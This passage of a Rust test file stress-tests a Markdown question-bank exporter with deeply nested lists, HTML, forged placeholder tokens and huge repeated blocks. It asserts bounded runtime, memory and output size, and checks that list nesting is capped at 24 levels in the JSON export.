    );
    let cases: Vec<(&str, String)> = vec![
        // 100,000 nested lists: modelled 24 deep, the rest stays text.
        ("deep-list", format!("{HEAD}{}x\n", "- ".repeat(100_000))),
        (
            "deep-list-html",
            format!("{HEAD}{}x <b>y</b>\n", "- ".repeat(100_000)),
        ),
        (
            "deep-quote",
            format!("{HEAD}{} x <b>y</b>\n", ">".repeat(100_000)),
        ),
        (
            "deep-html",
            format!(
                "{HEAD}{}x{}\n",
                "<div>".repeat(100_000),
                "</div>".repeat(100_000)
            ),
        ),
        (
            "formatting",
            format!(
                "{HEAD}{}\n\n{}",
                (0..30_000)
                    .map(|i| format!("<b id={i}></x>"))
                    .collect::<String>(),
                "<p>y</p>\n".repeat(1000)
            ),
        ),
        (
            "brackets",
            format!(
                "{HEAD}{}x{}\n\n{}x\n",
                "[".repeat(50_000),
                "]".repeat(50_000),
                "*".repeat(50_000)
            ),
        ),
        // One 1 MB code block and 2,000 copies of a code placeholder's text.
        (
            "forged-placeholders",
            format!(
                "{HEAD}{big_code}\n{}",
                "\u{E000}qbank-code-0\u{E001}\n\n".repeat(2000)
            ),
        ),
        (
            "code-blocks",
            format!("{HEAD}{}", "```\nx\n```\n\n".repeat(20_000)),
        ),
        (
            "images",
            format!(
                "{HEAD}{}",
                "![](https://e.example/a.png)\n\n".repeat(20_000)
            ),
        ),
        ("long-line", format!("{HEAD}{}\n", "字".repeat(1_000_000))),
    ];
    let dir = tempfile::tempdir().unwrap();
    let mut report = Vec::new();
    for (name, text) in &cases {
        let file = format!("{name}.md");
        std::fs::write(dir.path().join(&file), text).unwrap();
        let out = format!("out-{name}");
        let (run, took, peak_kib) = bounded(
            dir.path(),
            &[
                "export",
                &file,
                "--to",
                "json,jsonl,csv,xlsx,anki,anki-txt",
                "--truncate",
                "-q",
                "-o",
                &out,
            ],
            // A watchdog, not a benchmark (each case takes seconds): before
            // the fixes `deep-html` ran for hours, `forged-placeholders`
            // took 15 GB, `code-blocks` and `images` were quadratic; a
            // regression must fail, not hang the suite.
            Duration::from_secs(300),
        );
        ok(&run);
        let mut largest = 0;
        for entry in std::fs::read_dir(dir.path().join(&out)).unwrap() {
            largest = largest.max(entry.unwrap().metadata().unwrap().len());
        }
        report.push(format!(
            "{name}: {} KB in, {took:?}, peak {peak_kib} KiB, largest output {} KB",
            text.len() / 1000,
            largest / 1000
        ));
        // No amplification: each output linear in the input. Markup
        // expands (a `>` becomes `<blockquote>\n`, 13 bytes; `- ` becomes
        // `<ul>\n<li>`), by a bounded factor.
        assert!(
            largest < 32 * text.len() as u64 + 100_000,
            "{name}: an output of {largest} bytes from {} bytes",
            text.len()
        );
        if cfg!(target_os = "linux") {
            assert!(peak_kib < 1_000_000, "{name}: peak {peak_kib} KiB");
        }
    }
    eprintln!("{}", report.join("\n"));
}

#[test]
fn lists_are_modelled_24_levels_deep() {
    assert_eq!(qbank_core::MAX_LIST_DEPTH, 24);
    let text = format!(
        "# D\n\n## 1. T\n\n**Answer:**\n\n{}x\n",
        "- ".repeat(10_000)
    );
    let file = qbank_core::parse_bytes("d.md", text.into_bytes(), &Default::default()).unwrap();
    let section = file.document.entries[0]
        .section(qbank_core::SectionKind::Answer)
        .unwrap();
    let mut depth = 0;
    let mut list = section.blocks.iter().find_map(qbank_core::Block::as_list);
    while let Some(l) = list {
        depth += 1;
        list = l.items[0].lists.first();
    }
    assert_eq!(depth, qbank_core::MAX_LIST_DEPTH);
    // The JSON export nests no deeper than the model.
    let out = crate::util::export_parsed(crate::util::json_writer("t", false), &[&file]);
    let (mut nesting, mut max, mut in_string, mut escaped) = (0usize, 0usize, false, false);
    for b in out {
        match (in_string, escaped, b) {
            (true, true, _) => escaped = false,
            (true, false, b'\\') => escaped = true,
            (true, false, b'"') => in_string = false,
            (false, _, b'"') => in_string = true,
            (false, _, b'[' | b'{') => {
                nesting += 1;
                max = max.max(nesting);
            }
            (false, _, b']' | b'}') => nesting -= 1,
            _ => {}
        }
    }
    assert!(
        max <= 4 * qbank_core::MAX_LIST_DEPTH + 16,
        "JSON nesting {max}"
    );
    // serde_json's default recursion limit (128) reads it.
    let out = crate::util::export_parsed(crate::util::json_writer("t", true), &[&file]);
    serde_json::from_slice::<serde_json::Value>(&out).unwrap();
    let jsonl = qbank_json::create_jsonl(Vec::new(), &Default::default());
    let out = crate::util::export_parsed(jsonl, &[&file]);
    for line in out.split(|&b| b == b'\n').filter(|l| !l.is_empty()) {
        serde_json::from_slice::<serde_json::Value>(line).unwrap();
    }
}
